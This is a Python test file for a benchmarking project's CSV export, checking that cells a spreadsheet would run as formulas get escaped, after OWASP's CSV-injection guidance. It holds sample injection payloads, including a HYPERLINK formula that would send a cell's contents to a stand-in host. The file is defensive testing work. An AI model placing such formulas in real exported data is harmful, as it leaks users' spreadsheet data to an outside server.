"""Cells of a CSV that a spreadsheet would run, after OWASP's page on CSV injection."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import polars as pl
import pytest
from tests.reports.test_read import row

import finskillbench
from finskillbench.csv_output import csv_text
from finskillbench.integrations.exports import FlatFormat, write_flat
from finskillbench.reports.formats import render_csv
from finskillbench.reports.tables.base import Column, Kind, Table
from finskillbench.runs.store.rows import to_frame

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"a")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+1", "-1+1", "-x", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "+", "1\n=2"]
)
def test_a_text_that_would_be_run_is_not(text: str) -> None:
    """A line feed inside a cell begins no other cell."""
    written = cells(csv_text(pl.DataFrame({"a": [text]})))[1][0]
    assert written == (text if text[0] == "1" else "'" + text)


def test_everything_else_stays_as_it_is() -> None:
    frame = pl.DataFrame(
        {
            "text": ["a=b", "", None, "-0.5", "+1e-3", "it's", "a,b", 'a "b"'],
            "number": [-1.5, 0.0, None, -2e-9, 1e20, 3.0, 4.0, -5.0],
        }
    )
    assert csv_text(frame) == frame.write_csv()


def test_headers_and_categories_are_text_too() -> None:
    frame = pl.DataFrame({"=a": pl.Series(["=b"], dtype=pl.Categorical)})
    assert cells(csv_text(frame)) == [["'=a"], ["'=b"]]


def test_tables_and_rows_are_written_so(tmp_path: Path) -> None:
    table = Table("t", "T", (Column("model", "Model"), Column("gain", "Gain", Kind.DIFFERENCE)), ((FORMULA, -0.5),))
    assert cells(render_csv(table))[1] == ["'" + FORMULA, "-0.5"]
    write_flat(to_frame([row()]).with_columns(error=pl.lit(FORMULA)), tmp_path / "rows.csv", FlatFormat.CSV)
    (line,) = csv.DictReader(io.StringIO((tmp_path / "rows.csv").read_text()))
    assert line["error"] == "'" + FORMULA


def test_nothing_else_writes_csv() -> None:
    package = Path(finskillbench.__file__).parent
    writers = re.compile(r"\.write_csv\(|csv\.(writer|DictWriter)\(|\.to_csv\(|sink_csv")
    found = [path.name for path in sorted(package.rglob("*.py")) if writers.search(path.read_text(encoding="utf-8"))]
    assert found == ["csv_output.py"]
